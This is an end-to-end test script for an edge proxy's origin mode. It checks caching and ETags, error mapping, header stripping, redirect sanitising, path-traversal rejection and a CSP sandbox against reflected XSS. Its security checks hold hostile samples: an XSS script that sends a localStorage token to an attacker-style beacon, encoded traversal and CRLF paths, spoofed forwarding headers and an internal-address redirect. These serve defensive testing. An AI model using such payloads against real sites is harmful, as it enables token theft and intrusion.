/**
 * Origin mode over real HTTP, the way the README sets it up: the two-replica test origin (its replicas send the
 * same JSON with different ETags, dates, key orders and whitespace, behind a round robin) and `wrangler dev` with
 * ORIGIN_URL pointing at it. A client sees one ETag and gets 304s from both replicas, which send no body for
 * them; a change at the origin gives a 200 with a new tag; one user's answer is never another's; an origin that
 * fails, breaks off or is slow gives 502 or 504; a write with our tag in If-Match lands; curl sees it all too.
 * A slow client gets a whole body, a gzip bomb passes as it came, made-up forwarding fields never reach the
 * origin, redirects come without their page or an internal address, paths that another decoding would lead
 * out of the base are refused, and in headless Chromium a page of the origin with a reflected XSS cannot read
 * the demo page's token (while the same page without the sandbox can).
 *
 * Needs: /usr/bin/chromium (apt-get install -y chromium) and the npm package playwright-core.
 * Usage, from the project root: node_modules/.bin/node e2e/origin-mode.ts   (20-40 s; no account, no network)
 */

import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { createServer, get as httpGet } from 'node:http'
import type { AddressInfo } from 'node:net'
import { promisify } from 'node:util'
import type { Browser } from 'playwright-core'
import { type ReplicaStats, startReplicaOrigin } from '../scripts/replica-origin.ts'
import { Checks, exitAfter } from './checks.ts'
import { launchChromium } from './chromium.ts'
import { startLocalServer } from './local-server.ts'

const REQUEST_TIMEOUT_MS = 15_000
const ORIGIN_TIMEOUT_MS = 1_500

exitAfter(240_000)
const checks = new Checks()
const origin = await startReplicaOrigin()
const server = await startLocalServer('origin mode', {
  ORIGIN_URL: origin.url.href,
  ORIGIN_PREFIX: '/legacy',
  ORIGIN_TIMEOUT_MS: String(ORIGIN_TIMEOUT_MS),
})

function send(path: string, init: RequestInit = {}): Promise<Response> {
  // identity: compare the bytes the worker sends, not what wrangler's local proxy gzips.
  const headers = { 'Accept-Encoding': 'identity', ...(init.headers as Record<string, string> | undefined) }
  return fetch(new URL(path, server.url), {
    ...init,
    headers,
    signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS),
  })
}

async function stats(): Promise<Record<'a' | 'b', ReplicaStats>> {
  return (await fetch(new URL('/__replicas/stats', origin.url))).json() as Promise<
    Record<'a' | 'b', ReplicaStats>
  >
}

async function problem(response: Response): Promise<{ status: number; detail: string }> {
  assert.equal(response.headers.get('Content-Type'), 'application/problem+json')
  return (await response.json()) as { status: number; detail: string }
}

/** RawAnswer is what arrived on the wire: status, fields, and the body's bytes as sent (not decoded). */
interface RawAnswer {
  status: number
  headers: Record<string, string | string[] | undefined>
  bytes: number
}

/** getRaw GETs a path with node:http, which decodes nothing, after waiting `pauseMs` before reading the body. */
function getRaw(path: string, headers: Record<string, string>, pauseMs = 0): Promise<RawAnswer> {
  return new Promise((resolve, reject) => {
    const request = httpGet(new URL(path, server.url), { headers }, (response) => {
      let bytes = 0
      response.pause()
      setTimeout(() => {
        response.on('data', (chunk: Buffer) => {
          bytes += chunk.byteLength
        })
        response.on('end', () =>
          resolve({ status: response.statusCode ?? 0, headers: response.headers, bytes }),
        )
        response.on('error', reject)
        response.resume()
      }, pauseMs)
    })
    request.on('error', reject)
    request.setTimeout(REQUEST_TIMEOUT_MS, () => request.destroy(new Error(`GET ${path} timed out`)))
  })
}

/** Beacon is a server on another origin that counts what a page sends it, as an attacker's would. */
interface Beacon {
  readonly url: URL
  readonly received: string[]
  close(): Promise<void>
}

async function startBeacon(): Promise<Beacon> {
  const received: string[] = []
  const beacon = createServer((request, response) => {
    received.push(new URL(request.url ?? '/', 'http://beacon.test').searchParams.get('t') ?? '')
    response.writeHead(204).end()
  })
  await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve))
  const { port } = beacon.address() as AddressInfo
  return {
    url: new URL(`http://127.0.0.1:${port}/`),
    received,
    close: () => new Promise((resolve) => beacon.close(() => resolve())),
  }
}

async function waitFor(condition: () => boolean, ms: number): Promise<boolean> {
  const until = Date.now() + ms
  while (!condition() && Date.now() < until) await new Promise((resolve) => setTimeout(resolve, 50))
  return condition()
}

try {
  let etag = ''
  await checks.run('both replicas answer with one strong ETag and the same canonical bytes', async () => {
    const [a, b] = [await send('/legacy/users/1'), await send('/legacy/users/1')]
    assert.deepEqual([a.status, b.status], [200, 200])
    assert.notEqual(a.headers.get('X-Replica'), b.headers.get('X-Replica'))
    etag = a.headers.get('ETag') ?? ''
    assert.match(etag, /^"[A-Za-z0-9_-]{43}"$/)
    assert.equal(b.headers.get('ETag'), etag)
    assert.equal(b.headers.get('Last-Modified'), a.headers.get('Last-Modified'))
    assert.equal(await a.text(), await b.text())
    return etag
  })

  await checks.run('revalidations get 304s from both replicas, which send no body', async () => {
    const before = await stats()
    const answers = await Promise.all(
      [1, 2, 3, 4].map(() => send('/legacy/users/1', { headers: { 'If-None-Match': etag } })),
    )
    assert.deepEqual(
      answers.map((answer) => answer.status),
      [304, 304, 304, 304],
    )
    const after = await stats()
    assert.equal(after.a.notModified - before.a.notModified, 2)
    assert.equal(after.b.notModified - before.b.notModified, 2)
    assert.equal(after.a.bodyBytes + after.b.bodyBytes, before.a.bodyBytes + before.b.bodyBytes)
    return 'origin 304s: 2 + 2, body bytes sent: 0'
  })

  await checks.run('curl revalidates to a 304 with the ETag', async () => {
    // Not execFileSync: the origin runs in this very process, and must keep answering while curl waits.
    const { stdout: head } = await promisify(execFile)('curl', [
      '-sS',
      '-o',
      '/dev/null',
      '-D',
      '-',
      '-H',
      `If-None-Match: ${etag}`,
      new URL('/legacy/users/1', server.url).href,
    ])
    assert.match(head, /^HTTP\/1\.1 304/)
    assert.match(head, new RegExp(`etag: ${etag.replace(/[-"]/g, '.')}`, 'i'))
    return head.split('\r\n')[0]
  })

  await checks.run('a change at the origin gives a 200 with a new tag', async () => {
    const changed = await fetch(new URL('/__replicas/documents/users/1', origin.url), {
      method: 'PUT',
      body: JSON.stringify({ id: 1, name: 'Ada King', roles: ['admin'] }),
    })
    assert.equal(changed.status, 204)
    const answer = await send('/legacy/users/1', { headers: { 'If-None-Match': etag } })
    assert.equal(answer.status, 200)
    assert.notEqual(answer.headers.get('ETag'), etag)
    assert.equal(await answer.text(), '{"id":1,"name":"Ada King","roles":["admin"]}')
  })

  await checks.run("one user's answer is never another's", async () => {
    const ada = await send('/legacy/me', { headers: { Authorization: 'Bearer ada' } })
    const adaTag = ada.headers.get('ETag') ?? ''
    const alan = await send('/legacy/me', {
      headers: { Authorization: 'Bearer alan', 'If-None-Match': adaTag },
    })
    assert.equal(alan.status, 200)
    assert.equal(((await alan.json()) as { user: string }).user, 'Bearer alan')
    assert.equal(ada.headers.get('Cache-Control'), 'private, max-age=0')
  })

  await checks.run('an origin 5xx is a 502 problem', async () => {
    const answer = await send('/legacy/fail')
    assert.equal(answer.status, 502)
    return (await problem(answer)).detail
  })

  await checks.run('an origin that drops the connection is a 502 problem', async () => {
    const answer = await send('/legacy/hangup')
    assert.equal(answer.status, 502)
    return (await problem(answer)).detail
  })

  await checks.run('an origin that breaks off its body is a 502 problem', async () => {
    const answer = await send('/legacy/broken')
    assert.equal(answer.status, 502)
    return (await problem(answer)).detail
  })

  await checks.run(
    `a slow origin is a 504 problem after ORIGIN_TIMEOUT_MS (${ORIGIN_TIMEOUT_MS} ms)`,
    async () => {
      const started = Date.now()
      const answer = await send('/legacy/slow?ms=5000')
      assert.equal(answer.status, 504)
      assert.ok(Date.now() - started < 4_000)
      return (await problem(answer)).detail
    },
  )

  await checks.run('a write with our tag in If-Match lands, whichever replica takes it', async () => {
    for (const name of ['Alan M. Turing', 'Alan Mathison Turing']) {
      const current = (await send('/legacy/users/2')).headers.get('ETag') ?? ''
      const write = await send('/legacy/users/2', {
        method: 'PUT',
        headers: { 'Content-Type': 'application/json', 'If-Match': current },
        body: JSON.stringify({ id: 2, name }),
      })
      assert.equal(write.status, 200)
    }
    const stale = await send('/legacy/users/2', {
      method: 'PUT',
      headers: { 'Content-Type': 'application/json', 'If-Match': etag },
      body: '{}',
    })
    assert.equal(stale.status, 412)
  })

  await checks.run('a client that reads slowly gets the whole passed-on body', async () => {
    const size = 8 * 1_048_576
    const answer = await getRaw(`/legacy/bulk?bytes=${size}&status=203`, {}, ORIGIN_TIMEOUT_MS * 2)
    assert.equal(answer.status, 203)
    assert.equal(answer.bytes, size)
    return `${size} bytes after a ${ORIGIN_TIMEOUT_MS * 2} ms pause`
  })

  await checks.run('a gzip bomb from the origin is passed on as it came, not decoded', async () => {
    const started = Date.now()
    const answer = await getRaw('/legacy/gzip-bomb', { 'Accept-Encoding': 'gzip' })
    assert.equal(answer.status, 200)
    assert.equal(answer.headers['content-encoding'], 'gzip')
    assert.equal(answer.headers.etag, undefined)
    assert.ok(answer.bytes < 100_000, `${answer.bytes} bytes on the wire`)
    return `${answer.bytes} coded bytes for 32 MiB, in ${Date.now() - started} ms`
  })

  await checks.run("an origin's 101 is a 502 problem", async () => {
    const answer = await send('/legacy/switching')
    assert.equal(answer.status, 502)
    return (await problem(answer)).detail
  })

  await checks.run('forwarding and identity fields a client makes up never reach the origin', async () => {
    const madeUp = {
      X_Forwarded_For: '203.0.113.66',
      'Forwarded-For': '203.0.113.66',
      'X-Originating-IP': '203.0.113.66',
      'Fastly-Client-IP': '203.0.113.66',
      'X-Envoy-Original-Path': '/admin',
      'X-Original-Method': 'DELETE',
      'X-Middleware-Subrequest': 'middleware',
      'CF-IPCountry': 'XX',
    }
    const answer = await send('/legacy/echo', { headers: { ...madeUp, 'X-Request-Id': 'e2e-1' } })
    const { headers } = (await answer.json()) as { headers: Record<string, string> }
    const arrived = Object.keys(madeUp).filter((name) => name.toLowerCase() in headers)
    assert.deepEqual(arrived, [])
    assert.equal(headers['x-request-id'], 'e2e-1')
    return `${Object.keys(madeUp).length} made-up fields sent, none arrived`
  })

  await checks.run('a redirect arrives without its page, and no internal address in any field', async () => {
    // fetch would follow the redirects itself.
    const redirect = await send('/legacy/located?status=302&location=/users/1', { redirect: 'manual' })
    assert.equal(redirect.status, 302)
    assert.equal(redirect.headers.get('Location'), '/legacy/users/1')
    assert.equal(await redirect.text(), '')
    const hidden = await send(
      `/legacy/located?status=302&location=${encodeURIComponent('ws://10.0.0.7/admin')}`,
      {
        redirect: 'manual',
      },
    )
    assert.equal(hidden.status, 502)
    const fields = await send(
      `/legacy/located?refresh=${encodeURIComponent('0; url=http://10.0.0.7/admin')}&link=${encodeURIComponent('<http://10.0.0.7/admin>; rel=admin, </users/1>; rel=first')}`,
    )
    assert.equal(fields.headers.get('Refresh'), null)
    assert.equal(fields.headers.get('Link'), '</legacy/users/1>; rel=first')
  })

  await checks.run('paths that could step out of the base under another decoding are refused', async () => {
    const paths = [
      '/legacy/..%20/secret',
      '/legacy/%e2%80%a5/secret',
      '/legacy/%fc%80%80%80%80%af',
      '/legacy/a%0d%0ab',
    ]
    const statuses = await Promise.all(paths.map(async (path) => (await send(path)).status))
    assert.deepEqual(statuses, [400, 400, 400, 400])
  })

  let browser: Browser | undefined
  const beacon = await startBeacon()
  try {
    await checks.run(
      "a page of the origin cannot read the demo page's token: without the sandbox it can",
      async () => {
        browser = await launchChromium()
        // Chromium asks before a page reaches another loopback port: granted, as an attacker's server is reached.
        const context = await browser.newContext({ permissions: ['local-network-access'] })
        const page = await context.newPage()
        // The demo page keeps the token typed into it in this origin's localStorage.
        await page.goto(server.url.href)
        await page.fill('#token', 'the-write-token')
        await page.press('#token', 'Enter')
        const key = 'edge-etag-demo:token'
        assert.equal(await page.evaluate((name) => localStorage.getItem(name), key), 'the-write-token')
        // An origin page with a reflected XSS, whose script sends the token to another origin.
        const script = `document.title='ran';new Image().src='${beacon.url.href}?t='+localStorage.getItem('${key}')`
        const hostile = new URL(
          `/legacy/reflect?name=${encodeURIComponent(`<script>${script}</script>`)}`,
          server.url,
        )

        // Control: the same answer without the sandbox (the CSP field taken out on its way in) runs and leaks.
        const isHostile = (url: URL) => url.pathname === '/legacy/reflect'
        await page.route(isHostile, async (route) => {
          const response = await route.fetch()
          const headers = { ...response.headers() }
          // route.fetch hands over the body decoded: its coding and length go with the policy.
          for (const name of ['content-security-policy', 'content-encoding', 'content-length'])
            delete headers[name]
          await route.fulfill({ response, headers })
        })
        await page.goto(hostile.href)
        assert.ok(await waitFor(() => beacon.received.length > 0, 5_000), 'the control page ran no script')
        assert.deepEqual(beacon.received, ['the-write-token'])
        await page.unrouteAll()

        // As served: the script never runs, the page's origin is opaque, and nothing reaches the beacon.
        const served = await page.goto(hostile.href)
        assert.match((await page.content()) ?? '', /<script>/)
        await new Promise((resolve) => setTimeout(resolve, 1_500))
        assert.deepEqual(beacon.received, ['the-write-token'], 'the served page sent the token to the beacon')
        assert.notEqual(await page.title(), 'ran')
        assert.equal(await page.evaluate('window.origin'), 'null')
        const read = await page.evaluate((name) => {
          try {
            return localStorage.getItem(name)
          } catch (error) {
            return (error as Error).name
          }
        }, key)
        assert.equal(read, 'SecurityError')
        assert.equal((await served?.allHeaders())?.['content-security-policy'], 'sandbox')
        return 'control: token sent to the beacon; sandboxed: no script, opaque origin, localStorage refused'
      },
    )
  } finally {
    await browser?.close()
    await beacon.close()
  }

  await checks.run('the API beside the origin is untouched', async () => {
    const answer = await send('/api/items/apple')
    assert.ok(answer.status === 200 || answer.status === 404, `status ${answer.status}`)
    assert.equal(answer.headers.get('X-Replica'), null)
  })
} catch (error) {
  checks.fail('origin mode', error)
} finally {
  await server.stop()
  await origin.stop()
}
checks.finish()
